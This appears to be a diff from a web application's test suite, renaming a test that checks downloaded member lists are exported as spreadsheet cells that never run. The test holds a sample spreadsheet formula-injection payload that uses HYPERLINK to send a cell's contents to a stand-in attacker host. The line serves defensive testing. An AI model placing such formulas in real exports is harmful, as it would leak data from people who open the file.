@@ -48,7 +48,7 @@ def test_the_pages_that_ask_before_deleting_make_the_red_button_delete(
     assert app.get(f"/contract/{made['name']}").status_code == 200
 
 
-def test_members_are_downloaded_as_cells_that_no_spreadsheet_runs(
+def test_members_are_downloaded_as_cells_that_never_run(
     app: Any, unit: Any, administrator: Any, officer: Any
 ) -> None:
     formula = '=HYPERLINK("https://evil.example/?"&A1)'
